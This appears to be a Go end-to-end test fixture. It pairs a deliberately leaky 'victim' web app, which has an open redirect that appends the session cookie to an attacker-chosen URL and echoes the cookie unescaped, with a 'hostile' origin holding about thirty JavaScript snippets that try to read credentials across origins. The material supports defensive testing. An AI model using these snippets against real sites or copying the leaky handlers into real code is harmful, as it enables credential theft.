package e2e

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"strings"
)

// victim is an application that shows a visitor's credentials in many places, and
// repeats what it is sent, as applications do.
func victim() http.Handler {
	mux := http.NewServeMux()
	page := func(path, title, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = fmt.Fprintf(w, "<!doctype html><title>%s</title>%s", title, body)
		})
	}
	page("/app", "App", `<h1>Account</h1><label>Search <input id=q></label><label>Note <textarea id=n></textarea></label>
<label>File <input id=f type=file></label><button type=button id=ask onclick="document.title = prompt('Name?') || ''">Show name</button>
<p id=mirror></p><ul id=list></ul><p id=seen>beacon-of-app</p>
<script>
const t = localStorage.jwt || ''
for (const e of [q, n]) e.oninput = () => { mirror.textContent = e.value; mirror.title = e.value; document.title = 'App ' + e.value; console.log(e.value)
  mirror.setAttribute('aria-label', [...e.value].reverse().join('')); list.innerHTML = ''; for (const c of e.value) { const i = document.createElement('li'); i.textContent = c; list.append(i) } }
f.onchange = async () => { mirror.textContent = await f.files[0].text() }
</script>
<form hidden><input id=csrf type=hidden></form><meta id=meta><div id=data></div>
<script>csrf.setAttribute('value', t); meta.content = t; data.dataset.token = t; data.className = 't-' + t</script>`)
	page("/keys", "Keys", `<h1>beacon-of-keys</h1><p id=plain></p><ul id=letters></ul><p id=attr></p><input id=field><details open><summary>Key</summary><code id=code></code></details>
<select id=options></select><a id=link>go</a><button type=button id=button>press</button><svg viewBox="0 0 900 20"><text y=15 id=drawn></text></svg><p id=parts></p><p id=encoded></p><table><tr id=row></tr></table>
<style>#generated::before { content: attr(data-k) }</style><p id=generated></p><div id=deep></div><iframe id=inner></iframe><img id=image>
<script>
const t = localStorage.jwt || ''
plain.textContent = t; attr.title = t; attr.setAttribute('aria-label', t); field.value = t; field.placeholder = t; code.textContent = 'key: ' + t
for (const c of t) letters.append(Object.assign(document.createElement('li'), {textContent: c}))
options.append(new Option(t, t)); link.href = '/go/' + t; link.textContent = 'with ' + t; button.textContent = t; drawn.textContent = t
for (const c of t.match(/.{1,5}/g) || []) parts.append(Object.assign(document.createElement('b'), {textContent: c}))
encoded.textContent = [btoa(t), encodeURIComponent(t), [...t].reverse().join(''), [...t].join(' '), [...t].join('\u200d'), t.toUpperCase(), [...t].map(c => c.charCodeAt(0).toString(16)).join('')].join(' ; ')
for (const c of t.match(/.{1,9}/g) || []) row.append(Object.assign(document.createElement('td'), {textContent: c}))
generated.dataset.k = t; deep.attachShadow({mode: 'closed'}).innerHTML = '<p>' + t + '</p>'; inner.srcdoc = '<p>' + t + '</p>'; image.alt = t; document.title = 'Keys ' + t
console.log(t); console.error(new Error(t)); history.replaceState(null, '', '/keys?k=' + t); fetch('/gone/' + t); fetch('/deed', {method: 'POST', body: 'k=' + t}); setTimeout(() => { throw new Error(t) })
</script>`)
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		cookie, _ := r.Cookie("sid")
		value := ""
		if cookie != nil {
			value = cookie.Value
		}
		_, _ = fmt.Fprintf(w, "<!doctype html><title>Echo</title><h1>beacon-of-echo</h1><p>%s</p><p>%s</p><p>%s</p>", html.EscapeString(r.FormValue("q")), value, r.Header.Get("X-Api-Key"))
	})
	mux.HandleFunc("/deed", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusCreated) })
	mux.HandleFunc("/leave", func(w http.ResponseWriter, r *http.Request) {
		cookie, _ := r.Cookie("sid")
		if cookie != nil {
			http.Redirect(w, r, r.FormValue("to")+"?k="+cookie.Value, http.StatusFound)
		}
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		cookie, _ := r.Cookie("sid")
		if cookie != nil {
			w.Header().Set("Content-Disposition", `attachment; filename="`+cookie.Value+`.txt"`)
			_, _ = fmt.Fprint(w, cookie.Value)
		}
	})
	return mux
}

// hostile is the attacker's own host, which is allowed too.
func hostile(victim string) http.Handler {
	tries := map[string]string{
		"fetch":       `fetch(V + '/echo', {credentials: 'include'}).then(r => r.text()).then(say, say)`,
		"nocors":      `fetch(V + '/echo', {credentials: 'include', mode: 'no-cors'}).then(r => r.text()).then(say, say)`,
		"xhr":         `(() => { const x = new XMLHttpRequest; x.withCredentials = true; x.open('GET', V + '/echo'); x.onloadend = () => say(x.responseText + x.getAllResponseHeaders()); x.send() })()`,
		"sync":        `(() => { try { const x = new XMLHttpRequest; x.withCredentials = true; x.open('GET', V + '/echo', false); x.send(); say(x.responseText) } catch (e) { say(e) } })()`,
		"script":      `document.head.append(Object.assign(document.createElement('script'), {src: V + '/echo', onerror: say}))`,
		"style":       `document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: V + '/echo'}))`,
		"image":       `(() => { const i = new Image; i.onload = i.onerror = e => say(i.width + ' ' + e.type); i.src = V + '/file' })()`,
		"frame":       `(() => { const f = document.createElement('iframe'); f.src = V + '/keys'; f.onload = () => { try { say(f.contentDocument.body.innerText) } catch (e) { say(e) } }; document.body.append(f) })()`,
		"frameecho":   `(() => { const f = document.createElement('iframe'); f.src = V + '/echo?q=x'; f.onload = () => { try { say(f.contentWindow.name + f.contentWindow.length) } catch (e) { say(e) } }; document.body.append(f) })()`,
		"frames":      `(() => { const f = document.createElement('iframe'); f.src = V + '/keys'; f.onload = () => { try { say(f.contentWindow.frames.length + f.contentWindow.location.href) } catch (e) { say(e) } }; document.body.append(f) })()`,
		"sandbox":     `(() => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-same-origin'; f.src = V + '/keys'; document.body.append(f); setTimeout(() => say('later'), 300) })()`,
		"object":      `document.body.append(Object.assign(document.createElement('object'), {data: V + '/keys'}))`,
		"embed":       `document.body.append(Object.assign(document.createElement('embed'), {src: V + '/keys'}))`,
		"popup":       `(() => { const w = open(V + '/keys'); setTimeout(() => { try { say(w.document.title) } catch (e) { say(e) } }, 300) })()`,
		"message":     `(() => { addEventListener('message', e => say(e.data)); const f = document.createElement('iframe'); f.src = V + '/keys'; f.onload = () => f.contentWindow.postMessage('secret?', '*'); document.body.append(f) })()`,
		"storage":     `say(JSON.stringify(localStorage) + document.cookie)`,
		"performance": `fetch(V + '/leave?to=' + location.origin + '/x', {credentials: 'include', mode: 'no-cors'}).finally(() => say(performance.getEntries().map(e => e.name).join(' ')))`,
		"redirect":    `location = V + '/leave?to=' + location.origin + '/landed'`,
		"form":        `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = V + '/echo'; f.innerHTML = '<input name=q value=x>'; document.body.append(f); f.submit() })()`,
		"formget":     `(() => { const f = document.createElement('form'); f.action = V + '/echo'; f.innerHTML = '<input name=q value=x>'; document.body.append(f); f.submit() })()`,
		"download":    `(() => { const a = document.createElement('a'); a.href = V + '/file'; a.download = 'x'; document.body.append(a); a.click() })()`,
		"worker":      `new Worker(URL.createObjectURL(new Blob(["fetch('" + V + "/echo', {credentials: 'include'}).then(r => r.text()).then(postMessage, e => postMessage('' + e))"]))).onmessage = e => say(e.data)`,
		"socket":      `(() => { const s = new WebSocket(V.replace('http', 'ws') + '/echo'); s.onclose = e => say(e.code + e.reason) })()`,
		"events":      `(() => { const s = new EventSource(V + '/echo', {withCredentials: true}); s.onerror = e => { s.close(); say('error') } })()`,
		"manifest":    `document.head.append(Object.assign(document.createElement('link'), {rel: 'manifest', href: V + '/echo', crossOrigin: 'use-credentials'}))`,
		"canvas":      `(() => { const i = new Image; i.crossOrigin = 'use-credentials'; i.onload = i.onerror = e => say(e.type); i.src = V + '/file' })()`,
		"history":     `(() => { history.pushState(null, '', '/x'); say(history.length + location.href) })()`,
		"referrer":    `say(document.referrer)`,
		"navigate":    `location = V + '/keys'`,
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		quoted, _ := json.Marshal(victim)
		_, _ = fmt.Fprintf(w, "<!doctype html><title>Hostile</title><h1>beacon-of-hostile</h1><p>%s</p><pre id=out></pre><script>const V = %s, say = x => { out.textContent += x + '\\n'; console.log(x); document.title = 'Hostile ' + x };\n%s</script>",
			html.EscapeString(r.URL.RawQuery), quoted, tries[strings.TrimPrefix(r.URL.Path, "/try/")])
	})
}

var hostileTries = strings.Fields(`fetch nocors xhr sync script style image frame frameecho frames sandbox object embed popup message storage performance redirect form formget
	download worker socket events manifest canvas history referrer navigate`)
